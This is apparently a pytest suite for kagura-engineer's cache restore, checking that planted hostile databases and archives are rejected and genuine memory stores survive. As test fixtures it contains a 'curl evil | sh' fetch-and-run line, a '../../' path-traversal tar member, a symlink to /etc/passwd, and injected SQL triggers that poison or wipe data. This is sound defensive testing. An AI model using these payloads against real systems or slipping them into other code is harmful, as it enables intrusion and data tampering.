"""A cache entry is data, not trust: hostile DBs and archives planted in the cache, restored for
real through the stand-in and `kagura-engineer cache restore`, are rejected, deleted and warned
about once, and the job goes on with an empty store; genuine stores (any schema version) survive."""

from __future__ import annotations

import io
import json
import sqlite3
import tarfile
from pathlib import Path

import pytest

from kagura_engineer.cache.archive import create_archive, zstd
from kagura_engineer.cache.keys import cache_version
from kagura_engineer.cli import main as cli
from kagura_engineer.memory.local import _MIGRATIONS, LocalMemory

from .conftest import DB

VERSION = cache_version([DB])
PLANTED = "kagura-memory-acme/widgets-1-1"


def genuine_db(path: Path, summaries: list[str]) -> Path:
    """A store the way the store itself writes it (current schema)."""
    with LocalMemory(path, semantic=False) as store:
        for summary in summaries:
            store.remember(summary, f"{summary} (content)", "fact")
    return path


def schema_1_db(path: Path, summary: str) -> Path:
    """A store as kagura-engineer wrote it at schema version 1 (before vectors)."""
    conn = sqlite3.connect(path, isolation_level=None)
    for statement in _MIGRATIONS[1]:
        conn.execute(statement)
    conn.execute("INSERT INTO schema_version VALUES (1)")
    conn.execute(
        "INSERT INTO memories (id, summary, content, type, created_at, created_ts, updated_at)"
        " VALUES ('m-1', ?, 'from an old job', 'fact', '2026-01-01T00:00:00.000000Z', 1767225600,"
        " '2026-01-01T00:00:00.000000Z')",
        (summary,),
    )
    conn.close()
    return path


def tampered_db(tmp_path: Path, *statements: str, writable_schema: bool = False) -> Path:
    path = genuine_db(tmp_path / "planted.db", ["the deploy key lives in vault"])
    conn = sqlite3.connect(path, isolation_level=None)
    if writable_schema:  # what an attacker does to change a table's SQL but keep its rows
        conn.execute("PRAGMA writable_schema = ON")
    for statement in statements:
        conn.execute(statement)
    conn.close()
    return path


def archive_of(tmp_path: Path, data: bytes, member: str = DB) -> bytes:
    src = tmp_path / "member.bin"
    src.write_bytes(data)
    create_archive(src, member, tmp_path / "planted.tzst")
    return (tmp_path / "planted.tzst").read_bytes()


def hand_made_tzst(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            info.size = len(data) if data is not None else 0
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return zstd.compress(buf.getvalue())


def restore_cli(job, capsys) -> tuple[dict, list[str]]:
    """`kagura-engineer cache restore --json` inside the job: (its JSON, its ::warning lines)."""
    job.enter()
    assert cli(["cache", "restore", "--json"]) == 0
    out, err = capsys.readouterr()
    warnings = [line for line in (out + err).splitlines() if line.startswith("::warning")]
    return json.loads(out.splitlines()[-1]), warnings


def assert_rejected_and_empty(job, data, warnings, what: str, reason: str) -> None:
    """One warning naming what was foreign; nothing of it left; the next store is empty, silently."""
    message = f"the restored memory {what} was rejected ({reason}); starting with an empty store"
    assert data["hit"] is False and data["warning"] == message
    assert warnings == [f"::warning title=memory cache::{message}"]
    leftovers = sorted(p.name for p in job.workspace.rglob("*"))
    assert leftovers in ([], [".kagura"]), leftovers
    notes: list[str] = []
    with LocalMemory(job.db, warn=notes.append, semantic=False) as store:
        assert store.stats()["count"] == 0
        store.remember("the job goes on", "after a rejected cache entry", "fact")
        assert [m.summary for m in store.recall("job goes on")] == ["the job goes on"]
    assert notes == []
    conn = sqlite3.connect(job.db)
    names = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE name LIKE 'evil%'")}
    conn.close()
    assert names == set()


HOSTILE_DBS = {
    "trigger": (
        ["CREATE TRIGGER evil_poison AFTER INSERT ON memories BEGIN "
         "INSERT INTO state (key, value, updated_at) VALUES ('poisoned', '1', 'now'); END"],
        False,
        "unexpected trigger 'evil_poison'",
    ),
    "view": (["CREATE VIEW evil_view AS SELECT summary FROM memories"], False, "unexpected view 'evil_view'"),
    "table": (["CREATE TABLE evil_table (x)"], False, "unexpected table 'evil_table'"),
    "index": (["CREATE INDEX evil_index ON memories(summary)"], False, "unexpected index 'evil_index'"),
    "our trigger rewritten": (
        ["DROP TRIGGER memories_ai",
         "CREATE TRIGGER memories_ai AFTER INSERT ON memories BEGIN DELETE FROM memories; END"],
        False,
        "trigger 'memories_ai' differs from the store's own",
    ),
    "extra column": (
        ["UPDATE sqlite_master SET sql = replace(sql, 'created_at TEXT NOT NULL', "
         "'created_at TEXT NOT NULL, evil TEXT') WHERE name = 'outbox'"],
        True,
        "table 'outbox' differs from the store's own",
    ),
    # a CHECK its rows fail: checked after integrity_check, it would read "CHECK constraint failed"
    "CHECK": (
        ["INSERT INTO state (key, value, updated_at) VALUES ('plan', '{}', 'now')",
         "UPDATE sqlite_master SET sql = replace(sql, 'value TEXT NOT NULL', "
         "'value TEXT NOT NULL CHECK (length(value) < 0)') WHERE name = 'state'"],
        True,
        "table 'state' differs from the store's own",
    ),
}  # fmt: skip


@pytest.mark.parametrize("kind", list(HOSTILE_DBS))
def test_a_planted_db_with_a_foreign_schema_is_rejected(make_job, service, capsys, tmp_path, kind):
    statements, writable, reason = HOSTILE_DBS[kind]
    planted = tampered_db(tmp_path, *statements, writable_schema=writable)
    service.add_entry(PLANTED, VERSION, archive_of(tmp_path, planted.read_bytes()))
    job = make_job(run_id="2")
    data, warnings = restore_cli(job, capsys)
    assert_rejected_and_empty(job, data, warnings, "DB", reason)


def test_a_planted_file_that_is_not_sqlite_is_rejected(make_job, service, capsys, tmp_path):
    service.add_entry(PLANTED, VERSION, archive_of(tmp_path, b"#!/bin/sh\ncurl evil | sh\n" * 100))
    job = make_job(run_id="2")
    data, warnings = restore_cli(job, capsys)
    reason = f"'{DB}' does not start with the 'SQLite format 3' header"
    assert_rejected_and_empty(job, data, warnings, "archive", reason)


def test_another_programs_sqlite_db_is_rejected(make_job, service, capsys, tmp_path):
    other = tmp_path / "other.db"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE invoices (id INTEGER)")
    conn.commit()
    conn.close()
    service.add_entry(PLANTED, VERSION, archive_of(tmp_path, other.read_bytes()))
    job = make_job(run_id="2")
    data, warnings = restore_cli(job, capsys)
    assert_rejected_and_empty(job, data, warnings, "DB", "not a kagura-engineer memory store")


@pytest.mark.parametrize(
    ("member", "reason"),
    [
        (tarfile.TarInfo("../../escape.db"), "member '../../escape.db' is a parent-directory component"),
        (tarfile.TarInfo(DB), f"member '{DB}' is a link"),
    ],
    ids=["dot-dot", "symlink"],
)
def test_an_archive_with_a_traversing_or_link_member_is_rejected(
    make_job, service, capsys, tmp_path, member, reason
):
    data = b"SQLite format 3\x00" + b"\x00" * 100
    if "link" in reason:
        member.type, member.linkname, data = tarfile.SYMTYPE, "/etc/passwd", None
    service.add_entry(PLANTED, VERSION, hand_made_tzst([(member, data)]))
    job = make_job(run_id="2")
    data_out, warnings = restore_cli(job, capsys)
    assert_rejected_and_empty(job, data_out, warnings, "archive", reason)
    assert not (job.workspace.parent.parent / "escape.db").exists()


def write_cap(job, cap: int) -> None:
    (job.workspace / "repo.yaml").write_text(
        f"profile: test\nmemory_backend: local\nmemory_cache_max_bytes: {cap}\n"
    )


def test_a_db_over_the_configured_cap_is_rejected_and_one_at_the_cap_accepted(
    make_job, service, capsys, tmp_path
):
    db = genuine_db(tmp_path / "big.db", [f"memory {i}: " + "lorem ipsum " * 30 for i in range(100)])
    size = db.stat().st_size
    service.add_entry(PLANTED, VERSION, archive_of(tmp_path, db.read_bytes()))

    over = make_job(run_id="2")
    write_cap(over, size - 1)
    data, warnings = restore_cli(over, capsys)
    reason = f"'{DB}' is {size} bytes, over memory_cache_max_bytes ({size - 1})"
    message = f"the restored memory archive was rejected ({reason}); starting with an empty store"
    assert data["warning"] == message and warnings == [f"::warning title=memory cache::{message}"]
    assert sorted(p.name for p in over.workspace.rglob("*")) == [".kagura", "repo.yaml"]

    at = make_job(run_id="3")
    write_cap(at, size)
    data, warnings = restore_cli(at, capsys)
    assert data["hit"] is True and warnings == []
    assert at.db.read_bytes() == db.read_bytes()


@pytest.mark.parametrize("schema", ["current", "schema 1"])
def test_a_genuine_store_is_accepted_and_its_memories_survive(make_job, service, capsys, tmp_path, schema):
    summary = "the widgets API paginates with cursors"
    if schema == "current":
        db = genuine_db(tmp_path / "genuine.db", [summary])
        with LocalMemory(db, semantic=False) as store:  # statistics, as `PRAGMA optimize` leaves them
            store._conn.execute("ANALYZE")
    else:
        db = schema_1_db(tmp_path / "genuine.db", summary)
    service.add_entry(PLANTED, VERSION, archive_of(tmp_path, db.read_bytes()))
    job = make_job(run_id="2")
    data, warnings = restore_cli(job, capsys)
    assert data["hit"] is True and "warning" not in data and warnings == []
    notes: list[str] = []
    with LocalMemory(job.db, warn=notes.append, semantic=False) as store:
        assert [m.summary for m in store.recall("paginates cursors")] == [summary]
        assert store.stats()["schema_version"] == 3
    assert notes == []


def test_a_db_over_the_cap_is_not_saved(make_job, service, capsys):
    job = make_job()
    genuine_db(job.db, [f"memory {i}: " + "lorem ipsum " * 30 for i in range(100)])
    write_cap(job, 4096)
    job.enter()
    assert cli(["cache", "save", "--json"]) == 0
    data = json.loads(capsys.readouterr().out.splitlines()[-1])
    assert data["hit"] is False and "over memory_cache_max_bytes (4096)" in data["warning"]
    assert service.finalized() == []
